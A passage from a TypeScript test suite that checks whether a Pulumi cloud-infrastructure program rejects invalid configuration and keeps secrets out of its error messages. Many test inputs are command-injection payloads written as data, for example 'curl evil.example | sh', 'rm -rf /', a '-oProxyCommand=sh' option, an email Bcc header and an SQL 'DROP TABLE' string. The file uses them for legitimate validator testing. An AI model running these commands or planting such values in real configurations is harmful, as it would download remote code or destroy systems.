  { what: "an image tag that breaks out of a quote", edit: (c) => c.set("edp:images", ["tags", "portal"], '4.0.0"; curl evil.example | sh; "'), key: "edp:images.tags.portal", says: /valid image tag/ },
  { what: "an image tag of 129 characters", edit: (c) => c.set("edp:images", ["tags", "portal"], "v".repeat(129)), key: "edp:images.tags.portal", says: /valid image tag/ },
  { what: "an image tag with a zero-width space", edit: (c) => c.set("edp:images", ["tags", "masterdata"], "3.1.0\u200b"), key: "edp:images.tags.masterdata", says: /valid image tag/ },
  { what: "a registry with an injected line", edit: (c) => c.set("edp:images", ["registry"], `${REGISTRY}/edp\nRUN rm -rf /`), key: "edp:images.registry", says: /registry path/ },
  { what: "an rsync source with a shell command", edit: (c) => c.set("edp:e3", ["packagesUpstream"], "packages@repo.example-edp.net:/srv/debian; rm -rf /"), key: "edp:e3.packagesUpstream", says: /rsync source/ },
  { what: "an rsync source that is an SSH option", edit: (c) => c.set("edp:e3", ["packagesUpstream"], "-oProxyCommand=sh@x:/y"), key: "edp:e3.packagesUpstream", says: /rsync source/ },
  { what: "a custom CA bundle that is only PEM markers", edit: (c) => c.set("edp:e3", ["customCaBundle"], "-----BEGIN CERTIFICATE-----\nnot a certificate\n-----END CERTIFICATE-----\n"), key: "edp:e3.customCaBundle", says: /not a parsable certificate/ },
  { what: "an ACME e-mail with an injected header", edit: (c) => c.set("edp:ingress", ["acmeEmail"], "ops@example-edp.net\nBcc: evil@example.net"), key: "edp:ingress.acmeEmail", says: /e-mail/ },
  { what: "a load balancer id with SQL", edit: (c) => c.set("edp:ingress", ["loadBalancerId"], "lb-gw8'; DROP TABLE x;--"), key: "edp:ingress.loadBalancerId", says: /load balancer id/ },
  { what: "an admin CIDR with an Apache directive", edit: (c) => c.set("edp:e3", ["adminCidrs", 0], "198.51.100.0/24\nRequire all granted"), key: "edp:e3.adminCidrs[0]", says: /IPv4 CIDR/ },
  { what: "an instance type with a shell command", edit: (c) => c.set("edp:e3", ["instanceType"], "ecs.g7.large && reboot"), key: "edp:e3.instanceType", says: /ECS instance type/ },
  { what: "a node pool name with a shell command", edit: (c) => c.set("edp:cluster", ["create", "nodePools", 0, "name"], "system; rm -rf /"), key: "edp:cluster.create.nodePools[0].name", says: /DNS-1123/ },
  { what: "a Kubernetes version with injected YAML", edit: (c) => c.set("edp:cluster", ["create", "kubernetesVersion"], "1.33.3-aliyun.1\nkind: Secret"), key: "edp:cluster.create.kubernetesVersion", says: /ACK version/ },
  { what: "a Shamir seal in production", stages: ["production"], edit: (c) => c.set("edp:vault", ["seal"], "shamir"), key: "edp:vault.seal", says: /only testing/ },
  { what: "latest in staging", stages: ["staging"], edit: (c) => c.set("edp:images", ["tags", "portal"], "latest"), key: "edp:images.tags.portal", says: /not allowed in staging/ },
  // Adopting what runs (edp:existing): ids in the provider's import format, combinations that can work.
  { what: "an adopted cluster without the adopted VPC", stages: ["testing", "staging", "production"], edit: (c) => c.put("edp:existing", { cluster: { id: `c${"0".repeat(32)}` } }), key: "edp:existing.cluster", says: /needs edp:existing.vpc/ },
  { what: "an adopted cluster without a vSwitch for every zone", edit: (c) => c.put("edp:existing", { vpc: { id: "vpc-gw8abcdefghij" }, vswitches: { "eu-central-1a": "vsw-gw8abcdefghij" }, cluster: { id: `c${"0".repeat(32)}` } }), key: "edp:existing.cluster", says: /missing: edp:existing.vswitches.eu-central-1b/ },
  { what: "a cluster adopted twice (edp:existing.cluster and a kubeconfig)", edit: (c) => kubeWithoutCreate(c, testKubeconfig()).put("edp:existing", { vpc: { id: "vpc-gw8abcdefghij" }, cluster: { id: `c${"0".repeat(32)}` } }), key: "edp:existing.cluster", says: /both adopt the cluster/ },
  // RRSA of an adopted cluster (edp:cluster.rrsa).
  {
    what: "an RRSA provider named for a cluster the program creates",
    stages: ["testing", "staging", "production"],
    edit: (c) => c.set("edp:cluster", ["rrsa"], { oidcProviderArn: "acs:ram::1234567890123456:oidc-provider/ack-rrsa-c0123", issuer: "https://oidc-ack-eu-central-1.oss-eu-central-1.aliyuncs.com/c0123" }),
    key: "edp:cluster.rrsa",
    says: /adopted cluster only/,
  },
  {
    what: "an RRSA provider that is a role ARN",
    edit: (c) => kubeWithoutCreate(c, testKubeconfig()).put("edp:cluster", { rrsa: { oidcProviderArn: "acs:ram::1234567890123456:role/ack-rrsa-c0123", issuer: "https://oidc-ack-eu-central-1.oss-eu-central-1.aliyuncs.com/c0123" } }),
    key: "edp:cluster.rrsa.oidcProviderArn",
    says: /is not a RAM OIDC provider ARN/,
  },
  {
    what: "an RRSA issuer over plain HTTP",
    edit: (c) => kubeWithoutCreate(c, testKubeconfig()).put("edp:cluster", { rrsa: { oidcProviderArn: "acs:ram::1234567890123456:oidc-provider/ack-rrsa-c0123", issuer: "http://oidc-ack-eu-central-1.oss-eu-central-1.aliyuncs.com/c0123" } }),
    key: "edp:cluster.rrsa.issuer",
    says: /is not an https issuer URL/,
  },
  {
    what: "an RRSA provider without its issuer",
    edit: (c) => kubeWithoutCreate(c, testKubeconfig()).put("edp:cluster", { rrsa: { oidcProviderArn: "acs:ram::1234567890123456:oidc-provider/ack-rrsa-c0123" } }),
    key: "edp:cluster.rrsa.issuer",
    says: /is required/,
  },
  { what: "a kubeconfig-adopted cluster with a new VPC", edit: (c) => kubeWithoutCreate(c, testKubeconfig()), key: "edp:existing.vpc", says: /E3 and the PrivateZone would land outside/ },
  { what: "an adopted E3 host without its EIP", stages: ["testing", "production"], edit: (c) => c.put("edp:existing", { vpc: { id: "vpc-gw8abcdefghij" }, vswitches: { "eu-central-1a": "vsw-gw8abcdefghij" }, e3: { instanceId: "i-gw8abcdefghij", dataDiskId: "d-gw8abcdefghij", securityGroupId: "sg-gw8abcdefghij" } }), key: "edp:existing.e3", says: /needs edp:existing.e3Eip/ },
  { what: "an adopted vSwitch without its VPC", edit: (c) => c.put("edp:existing", { vswitches: { "eu-central-1a": "vsw-gw8abcdefghij" } }), key: "edp:existing.vswitches", says: /needs edp:existing.vpc/ },
  { what: "an adopted vSwitch in a zone the stage does not have", edit: (c) => c.put("edp:existing", { vpc: { id: "vpc-gw8abcdefghij" }, vswitches: { "eu-central-1c": "vsw-gw8abcdefghij" } }), key: "edp:existing.vswitches.eu-central-1c", says: /names no zone/ },
  { what: "a SNAT entry of a vSwitch that is not adopted", edit: (c) => c.put("edp:existing", { vpc: { id: "vpc-gw8abcdefghij" }, vswitches: { "eu-central-1a": "vsw-gw8abcdefghij" }, natGateway: { id: "ngw-gw8abcdefghij", snatTableId: "stb-gw8abcdefghij", eipId: "eip-gw8abcdefghij", snatEntries: { "eu-central-1b": "snat-gw8abcdefghij" } } }), key: "edp:existing.natGateway.snatEntries.eu-central-1b", says: /needs edp:existing.vswitches.eu-central-1b/ },
  { what: "a VPC id with a shell command", edit: (c) => c.put("edp:existing", { vpc: { id: "vpc-abc; rm -rf /" } }), key: "edp:existing.vpc.id", says: /is not an id such as vpc-/ },
  { what: "a bucket name with a dot", edit: (c) => c.put("edp:existing", { buckets: { manifests: { name: "edp.manifests" } } }), key: "edp:existing.buckets.manifests.name", says: /no dots/ },
  { what: "one bucket for two purposes", edit: (c) => c.put("edp:existing", { buckets: { manifests: { name: "edp-manifests" }, vaultSnapshots: { name: "edp-manifests" } } }), key: "edp:existing.buckets.vaultSnapshots.name", says: /each purpose needs its own bucket/ },
  { what: "a record for a name the program does not publish", edit: (c) => c.put("edp:existing", { dns: { publicRecords: { "edp-portal.testing.api.example-edp.net": "1234567" } } }), key: "edp:existing.dns.publicRecords.edp-portal.testing.api.example-edp.net", says: /is not a public name of this stage/ },
  { what: "an adopted PrivateZone not bound to the adopted VPC", edit: (c) => c.put("edp:existing", { vpc: { id: "vpc-gw8abcdefghij" }, dns: { privateZone: { id: "6d83e3b31aa60ca4", vpcIds: ["vpc-other0000000"] } } }), key: "edp:existing.dns.privateZone.vpcIds", says: /does not hold edp:existing.vpc.id/ },
  { what: "an adopted node pool the stage does not declare", edit: (c) => c.put("edp:existing", { vpc: { id: "vpc-gw8abcdefghij" }, vswitches: { "eu-central-1a": "vsw-gw8abcdefghij", "eu-central-1b": "vsw-gw8abcdefghik" }, cluster: { id: `c${"0".repeat(32)}`, nodePools: { gpu: `np${"0".repeat(32)}` } } }), key: "edp:existing.cluster.nodePools.gpu", says: /names no node pool/ },
  { what: "a KMS key id that is an alias", edit: (c) => c.put("edp:existing", { kms: { buckets: "alias/edp-testing-buckets" } }), key: "edp:existing.kms.buckets", says: /is not an id such as key-/ },
  { what: "the running platform's passwords in plaintext", edit: (c) => c.plain("edp:platformPasswords", { GRAFANA_ADMIN_PASSWORD: "Running-Grafana-Admin-0001" }), key: "edp:platformPasswords", says: /plaintext/ },
  { what: "a taken-over password with a forbidden @", stages: ["testing", "production"], edit: (c) => c.secret("edp:platformPasswords", { POSTGRES_ADMIN_PASSWORD: "Running-Postgres@Admin-004" }), key: "edp:platformPasswords.POSTGRES_ADMIN_PASSWORD", says: /forbidden character "@"/ },
  { what: "a taken-over password that is too short", edit: (c) => c.secret("edp:platformPasswords", { VAULT_DB_PASSWORD: "hunter2-short" }), key: "edp:platformPasswords.VAULT_DB_PASSWORD", says: /shorter than 16/ },
  { what: "a taken-over password the manual's table does not have", edit: (c) => c.secret("edp:platformPasswords", { REDIS_PASSWORD: "Running-Redis-Password-001" }), key: "edp:platformPasswords.REDIS_PASSWORD", says: /not a password of the manual's secrets table/ },
  { what: "a Loki basic auth that is a password, not an htpasswd line", edit: (c) => c.secret("edp:platformPasswords", { LOKI_INGRESS_BASIC_AUTH: "Running-Loki-Password-0001" }), key: "edp:platformPasswords.LOKI_INGRESS_BASIC_AUTH", says: /htpasswd line/ },
  { what: "Vault keys in plaintext", edit: (c) => c.plain("edp:vaultKeys", "cnVubmluZy12YXVsdC1rZXktMQ=="), key: "edp:vaultKeys", says: /plaintext/ },
  { what: "Vault keys that are not base64", edit: (c) => c.secret("edp:vaultKeys", "cnVubmluZy12YXVsdC1rZXktMQ==\nhunter2 not a key!"), key: "edp:vaultKeys", says: /line 2 is not a base64 key/ },
  { what: "the same Vault key twice", edit: (c) => c.secret("edp:vaultKeys", "cnVubmluZy12YXVsdC1rZXktMQ==\ncnVubmluZy12YXVsdC1rZXktMQ=="), key: "edp:vaultKeys", says: /twice/ },
  { what: "an unknown key under edp:existing", edit: (c) => c.put("edp:existing", { slb: { id: "lb-gw8abcdefghijklmnop" } }), key: "edp:existing.slb", says: /not a key of this project/ },

  // EdgeMesh (edp:kubeEdge.edgeMesh): its PSK and its relays.
  { what: "an EdgeMesh PSK in plaintext", edit: (c) => c.set("edp:kubeEdge", ["edgeMesh"], true).plain("edp:edgeMeshPsk", "hunter2-edgemesh-psk-0123456789abcdefghij"), key: "edp:edgeMeshPsk", says: /plaintext/ },
  { what: "an EdgeMesh PSK that is too short", edit: (c) => c.set("edp:kubeEdge", ["edgeMesh"], true).secret("edp:edgeMeshPsk", "hunter2-edgemesh-psk"), key: "edp:edgeMeshPsk", says: /shorter than 32 characters/ },
  { what: "an EdgeMesh PSK of several lines", edit: (c) => c.set("edp:kubeEdge", ["edgeMesh"], true).secret("edp:edgeMeshPsk", "hunter2-edgemesh-psk-0123456789\nabcdefghij-second-line"), key: "edp:edgeMeshPsk", says: /several lines/ },
  { what: "an EdgeMesh PSK while EdgeMesh is off", edit: (c) => c.secret("edp:edgeMeshPsk", "hunter2-edgemesh-psk-0123456789abcdefghij"), key: "edp:edgeMeshPsk", says: /edp:kubeEdge.edgeMesh is not true/ },
  { what: "an EdgeMesh relay that is not a KubeEdge node", edit: (c) => c.set("edp:kubeEdge", ["edgeMesh"], true).set("edp:kubeEdge", ["edgeMeshRelayNodes"], [{ node: "lab-kubeedge-09", addresses: ["203.0.113.7"] }]), key: "edp:kubeEdge.edgeMeshRelayNodes[0].node", says: /"lab-kubeedge-09" is not in edp:kubeEdge.nodes \(lab-kubeedge-01, lab-kubeedge-02\)/ },
  { what: "an EdgeMesh relay address that is a host name", edit: (c) => c.set("edp:kubeEdge", ["edgeMesh"], true).set("edp:kubeEdge", ["edgeMeshRelayNodes"], [{ node: "lab-kubeedge-01", addresses: ["gw.lab.example-edp.net"] }]), key: "edp:kubeEdge.edgeMeshRelayNodes[0].addresses[0]", says: /is not an IP address/ },
  { what: "EdgeMesh without any relay", edit: (c) => c.set("edp:kubeEdge", ["edgeMesh"], true).set("edp:kubeEdge", ["edgeMeshCloudRelay"], false), key: "edp:kubeEdge.edgeMeshCloudRelay", says: /find each other only through a relay/ },
  { what: "EdgeMesh relays while EdgeMesh is off", edit: (c) => c.set("edp:kubeEdge", ["edgeMeshRelayNodes"], [{ node: "lab-kubeedge-01", addresses: ["203.0.113.7"] }]), key: "edp:kubeEdge.edgeMeshRelayNodes", says: /edp:kubeEdge.edgeMesh is false/ },
];

interface Run {
  c: Case;
  stage: Stage;
  input: ConfigCaseInput;
  key: string;
}

const runs: Run[] = cases.flatMap((c) =>
  (c.stages ?? ["testing"]).map((stage) => {
    const raw = stageRawConfig(stage);
    const cfg = new Cfg(raw.values, raw.secretKeys);
    c.edit(cfg);
    const clusters = cfg.values["edp:edgeClusters"] ? (JSON.parse(cfg.values["edp:edgeClusters"]) as unknown[]) : [];
    return { c, stage, input: { stage, values: cfg.values, secretKeys: cfg.secretKeys }, key: c.key.replace("DUP", String(clusters.length - 1)) };
  }),
);

/** Every string of a secret key's value (and every plaintext one's), long enough to be recognisable. */
function secretStrings(input: ConfigCaseInput): string[] {
  const keys = Object.keys(input.values).filter((k) => input.secretKeys.includes(k) || /^(edp:(dockerPullJson|ddmFiles|issuerCa|deviceCa|clusterKubeconfig|edgeKubeconfigs|platformPasswords|vaultKeys)|alicloud:(accessKey|secretKey)|kubernetes:kubeconfig)$/.test(k));
  const out: string[] = [];
  const walk = (v: unknown) => {
    if (typeof v === "string") {
      if (v.length >= 8) out.push(v);
      for (const line of v.split("\n")) if (line.length >= 12 && !/^-----(BEGIN|END) /.test(line)) out.push(line);
    } else if (v && typeof v === "object") Object.values(v).forEach(walk);
  };
  for (const k of keys) {
    let parsed: unknown = input.values[k];
    try {
      parsed = JSON.parse(input.values[k]);
    } catch {
      // a plain string
    }
    walk(parsed);
    if (typeof parsed === "string") walk(input.values[k]);
  }
  return out.filter((s) => !/^(apiVersion|kind)\b/.test(s));
}

describe("bad configuration stops the program before anything is registered", function () {
  this.timeout(300_000);
  let results: ConfigCaseResult[] = [];

  before(async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "edp-config-cases-"));
    try {
      const casesFile = path.join(dir, "cases.json");
      const resultsFile = path.join(dir, "results.json");
      fs.writeFileSync(casesFile, JSON.stringify(runs.map((r) => r.input)));
      try {
        await promisify(execFile)(process.execPath, ["--import", "tsx", path.join(ROOT, "tests/harness/config-cases-cli.ts"), casesFile, resultsFile], { cwd: ROOT, maxBuffer: 64 * 1024 * 1024 });
      } catch (e) {
        // Pulumi's exit hook complains about the stopped programs' promises; the results file counts.
        if (!fs.existsSync(resultsFile)) throw e;
      }
      results = JSON.parse(fs.readFileSync(resultsFile, "utf8")) as ConfigCaseResult[];
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it(`has at least 100 cases of its own (${cases.length} cases, ${runs.length} runs)`, () => assert.ok(cases.length >= 100));

  runs.forEach((run, i) => {
    it(`${run.stage}: refuses ${run.c.what}, naming ${run.key}`, () => {
      const result = results[i];
      assert.ok(result, `no result for case ${i}: the runner stopped before it`);
      assert.equal(result.registrations, 0, `resources were registered (${result.registered.join(", ")}): the config was accepted`);
      const error = result.error ?? "";
      assert.match(error, /^Invalid configuration \(\d+ problems?\):/);
      const lines = error.split("\n  - ").slice(1);
      const named = lines.filter((l) => l.startsWith(`${run.key}: `)).map((l) => l.slice(run.key.length + 2));
      assert.ok(named.length > 0, `no problem names ${run.key}; got:\n${error}`);
      assert.ok(named.some((m) => run.c.says.test(m)), `no problem of ${run.key} says ${run.c.says}; got:\n${named.join("\n")}`);
      if (run.c.notBlamed) for (const l of lines) assert.doesNotMatch(l.split(": ")[0], run.c.notBlamed, `blames ${l}`);
      for (const s of secretStrings(run.input)) assert.ok(!error.includes(s), `the error quotes a secret value: ${s.slice(0, 12)}…`);
      assert.ok(error.length < 4000, `the error is ${error.length} characters long`);
    });
  });
});
